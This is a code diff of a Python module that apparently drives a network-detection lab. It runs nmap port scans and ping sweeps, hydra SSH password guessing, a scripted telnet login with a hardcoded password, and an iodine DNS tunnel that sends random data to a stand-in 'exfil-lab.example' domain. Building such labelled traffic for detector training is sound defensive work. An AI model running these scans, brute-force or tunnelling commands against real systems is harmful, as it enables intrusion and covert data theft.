@@ -1,24 +1,44 @@
-"""Suspicious scenarios a trainer (or a test) switches on; each runs once from one host."""
+"""Suspicious scenarios a trainer (or a test) switches on; each runs a real tool once from one host.
 
-import base64
+Each records in its ledger what the tool was asked to do (the target and how many ports, hosts or
+sessions), which the report checks against the stored flows; docs/lab.md says what each puts on
+the wire.
+"""
+
 import os
+import socket
 import subprocess
 import time
 
-from scapy.layers.inet import ICMP, IP, TCP
-from scapy.layers.l2 import Ether
-from scapy.sendrecv import sendp
-
-from . import dns
+from .. import tools, topo
 from .catalog import SCENARIOS  # noqa: F401  (re-exported for callers)
-from .ssh import CLIENT_OPTS
 
-SCAN_PORTS = range(1, 301)
-GUESSES = 25
+SCAN_PORTS = 300            # nmap -p 1-300: the server's low ports in one fast SYN scan
+SLOW_PORTS, SLOW_DELAY = 150, "100ms"  # 150 probes 0.1 s apart: 15 s, three 5 s flow files
+TUNNEL_DOMAIN, TUNNEL_NET, TUNNEL_PASSWORD = "t.exfil-lab.example", "192.168.99.1", "lab-tunnel"
+TUNNEL_SINK_PORT, TUNNEL_BYTES = 5555, 48_000
+GUESS_USER, GUESSES = "admin", 30  # hydra's default run against one user and a 30-word list
+
+
+def _run(ctx, argv, timeout, name):
+    """Run a tool to its end (or until asked to stop); log its output; return its exit code."""
+    log = open(os.path.join(ctx.run_dir, f"tool-{ctx.host}-{name}.log"), "ab")
+    proc = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT,
+                            cwd=ctx.run_dir)
+    deadline = time.monotonic() + timeout
+    while proc.poll() is None and time.monotonic() < deadline and ctx.running():
+        ctx.pause(0.2)
+    if proc.poll() is None:
+        proc.terminate()
+        try:
+            proc.wait(timeout=5)
+        except subprocess.TimeoutExpired:
+            proc.kill()
+    return proc.wait()
 
 
 def telnet_login(ctx):
-    """Log in to the server with the real telnet client, typing like a person."""
+    """Log in to the server's inetutils-telnetd with the real telnet client, typing like a person."""
     ctx.ready.set()
     start = time.time()
     proc = subprocess.Popen(["telnet", ctx.peers["srv"][0], "23"], stdin=subprocess.PIPE,
@@ -27,7 +47,8 @@ def telnet_login(ctx):
         for line in ("admin", "Sw1tch!2024", "show running-config", "exit"):
             if not ctx.pause(ctx.rng.uniform(0.4, 1.0)):
                 break
-            proc.stdin.write(line.encode() + b"\r\n")
+            # scripted from a pipe, telnet passes "\n" on as the line end (pitfalls.md)
+            proc.stdin.write(line.encode() + b"\n")
             proc.stdin.flush()
         proc.stdin.close()
         ok = proc.wait(timeout=15) == 0
@@ -38,58 +59,114 @@ def telnet_login(ctx):
     ctx.ledger.session("telnet", ctx.ip, ctx.peers["srv"][0], 23, ok=ok, start=start)
 
 
-def dns_tunnel(ctx):
-    """Exfiltrate a seeded blob as base32 labels, asking for TXT records (the downstream)."""
-    ctx.ready.set()
-    blob = base64.b32encode(ctx.rng.randbytes(1500)).decode().rstrip("=").lower()
-    for i in range(0, len(blob), 50):
-        if not ctx.pause(ctx.rng.uniform(0.02, 0.08)):
-            return
-        dns.ask(ctx, "dns-tunnel", f"{blob[i:i + 50]}.{i // 50}.{dns.TUNNEL_ZONE}", "TXT")
-
-
 def port_scan(ctx):
-    """SYN-scan the server's low ports from one source port, as nmap does."""
+    """SYN-scan the server's ports 1-300 with nmap, fast (-T4), as a scanner's first look."""
     ctx.ready.set()
-    srv_ip, srv_mac = ctx.peers["srv"]
-    sport = 40000 + ctx.rng.randrange(20000)
-    pkts = [Ether(src=ctx.mac, dst=srv_mac) / IP(src=ctx.ip, dst=srv_ip)
-            / TCP(sport=sport, dport=port, flags="S", seq=ctx.rng.randrange(1 << 32))
-            for port in SCAN_PORTS]
-    # One burst, as a scanner does: it also keeps the scan inside one flow file for detection.
-    sendp(pkts, iface=ctx.iface, verbose=False)
-    for pkt in pkts:
-        ctx.ledger.packet("port-scan", pkt)
+    srv = ctx.peers["srv"][0]
+    rc = _run(ctx, ["nmap", "-sS", "-n", "-Pn", "-T4", "--max-retries", "1",
+                    "-p", f"1-{SCAN_PORTS}", "-e", ctx.iface, srv], 120, "port-scan")
+    ctx.ledger.spread("port-scan", 6, ctx.ip, srv, "ports", SCAN_PORTS, ok=rc == 0)
+
+
+def slow_scan(ctx):
+    """SYN-scan the branch server slowly (--scan-delay): no flow file holds the threshold."""
+    ctx.ready.set()
+    target = ctx.peers["br1"][0]
+    rc = _run(ctx, ["nmap", "-sS", "-n", "-Pn", "--max-retries", "0", "--scan-delay", SLOW_DELAY,
+                    "-p", f"1-{SLOW_PORTS}", "-e", ctx.iface, target], 300, "slow-scan")
+    ctx.ledger.spread("slow-scan", 6, ctx.ip, target, "ports", SLOW_PORTS, ok=rc == 0)
 
 
 def host_sweep(ctx):
-    """Ping every address of the /24 once (broadcast frames: live hosts answer, none are missed)."""
+    """Ping-sweep the branch subnet through the router (nmap -sn -PE: ICMP echo only)."""
     ctx.ready.set()
-    ident = ctx.rng.randrange(65536)
-    pkts = [Ether(src=ctx.mac, dst="ff:ff:ff:ff:ff:ff") / IP(src=ctx.ip, dst=f"10.0.0.{last}")
-            / ICMP(type=8, id=ident, seq=last) / (b"\x00" * 32)
-            for last in range(1, 255) if f"10.0.0.{last}" != ctx.ip]
-    sendp(pkts, iface=ctx.iface, verbose=False)
-    for pkt in pkts:
-        ctx.ledger.packet("host-sweep", pkt)
+    rc = _run(ctx, ["nmap", "-sn", "-PE", "-n", "-e", ctx.iface, topo.BRANCH_SUBNET], 120,
+              "host-sweep")
+    # 256 addresses of the /24, all routed via rtr across the mirrored switch
+    ctx.ledger.spread("host-sweep", 1, ctx.ip, topo.BRANCH_SUBNET, "hosts", 250, ok=rc == 0)
 
 
 def ssh_guessing(ctx):
-    """Try passwords for 'admin' over and over, each guess its own connection."""
+    """Guess the server's admin password with hydra's defaults (16 tasks, -w 32) and 30 words."""
     ctx.ready.set()
-    askpass = os.path.join(ctx.run_dir, "ssh", "askpass")
-    with open(askpass, "w") as f:
-        f.write("#!/bin/sh\necho 'guess-$$'\n")
-    os.chmod(askpass, 0o755)
-    env = dict(os.environ, SSH_ASKPASS=askpass, SSH_ASKPASS_REQUIRE="force", DISPLAY=":0")
-    opts = [o if o != "BatchMode=yes" else "BatchMode=no" for o in CLIENT_OPTS]
-    for _ in range(GUESSES):
-        if not ctx.pause(ctx.rng.uniform(0.02, 0.1)):
-            return
-        done = subprocess.run(["ssh", *opts, "-o", "PreferredAuthentications=password",
-                               "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1",
-                               f"admin@{ctx.peers['srv'][0]}", "true"],
-                              env=env, stdin=subprocess.DEVNULL, capture_output=True, timeout=20)
-        # A guess counts when the server refused it, i.e. the password really went over the wire.
-        ctx.ledger.session("ssh-guessing", ctx.ip, ctx.peers["srv"][0], 22,
-                           ok=b"Permission denied" in done.stderr)
+    words = os.path.join(ctx.run_dir, "ssh", "words.txt")
+    with open(words, "w") as f:
+        f.write("".join(f"guess-{ctx.rng.randrange(10 ** 6):06d}\n" for _ in range(GUESSES)))
+    srv = ctx.peers["srv"][0]
+    rc = _run(ctx, ["hydra", "-I", "-l", GUESS_USER, "-P", words, f"ssh://{srv}"], 180,
+              "ssh-guessing")
+    # hydra spreads its tries over a few connections (several tries each, up to sshd's
+    # MaxAuthTries): at least two connections, each answered
+    ctx.ledger.spread("ssh-guessing", 6, ctx.ip, srv, "flows", 2, dport=22, ok=rc in (0, 255))
+
+
+def tunnel_server(ctx):
+    """iodined on the branch server, and a TCP sink behind it for the transfer through the tunnel."""
+    iodined = tools.find("iodined", "iodine")
+    log = open(os.path.join(ctx.run_dir, f"tool-{ctx.host}-iodined.log"), "ab")
+    proc = subprocess.Popen([iodined, "-f", "-c", "-P", TUNNEL_PASSWORD, "-l", ctx.ip, "-p", "53",
+                             f"{TUNNEL_NET}/27", TUNNEL_DOMAIN], stdin=subprocess.DEVNULL,
+                            stdout=log, stderr=subprocess.STDOUT)
+    sink = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    sink.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    sink.bind(("0.0.0.0", TUNNEL_SINK_PORT))
+    sink.listen(4)
+    sink.settimeout(0.2)
+    ctx.ready.set()
+    try:
+        while ctx.running() and proc.poll() is None:
+            try:
+                conn, _peer = sink.accept()
+            except socket.timeout:
+                continue
+            with conn:
+                conn.settimeout(60)
+                got = 0
+                try:
+                    while chunk := conn.recv(65536):
+                        got += len(chunk)
+                    conn.sendall(f"{got}\n".encode())
+                except OSError:
+                    pass
+    finally:
+        sink.close()
+        proc.terminate()
+        proc.wait(timeout=10)
+
+
+def dns_tunnel(ctx):
+    """Bring an iodine tunnel up to the branch server (DNS, no raw mode) and copy data through it."""
+    ctx.ready.set()
+    start = time.time()
+    server = ctx.peers["br1"][0]
+    log = open(os.path.join(ctx.run_dir, f"tool-{ctx.host}-iodine.log"), "ab")
+    # -r: skip iodine's raw UDP mode, so everything goes as DNS queries to port 53
+    proc = subprocess.Popen([tools.find("iodine", "iodine"), "-f", "-r", "-P", TUNNEL_PASSWORD,
+                             server, TUNNEL_DOMAIN], stdin=subprocess.DEVNULL, stdout=log,
+                            stderr=subprocess.STDOUT)
+    ok = False
+    try:
+        ok = _through_tunnel(ctx, proc)
+    finally:
+        proc.terminate()
+        try:
+            proc.wait(timeout=10)
+        except subprocess.TimeoutExpired:
+            proc.kill()
+            proc.wait()
+    ctx.ledger.session("dns-tunnel", ctx.ip, server, 53, ok=ok, start=start, proto=17)
+
+
+def _through_tunnel(ctx, proc):
+    """Send TUNNEL_BYTES to the sink at the tunnel's far end; return whether all arrived."""
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline and proc.poll() is None and ctx.running():
+        try:
+            with socket.create_connection((TUNNEL_NET, TUNNEL_SINK_PORT), timeout=5) as conn:
+                conn.settimeout(90)
+                conn.sendall(ctx.rng.randbytes(TUNNEL_BYTES))
+                conn.shutdown(socket.SHUT_WR)
+                return conn.recv(64).strip() == str(TUNNEL_BYTES).encode()
+        except OSError:
+            ctx.pause(1.0)  # the tunnel is not up yet: iodine is still probing
+    return False
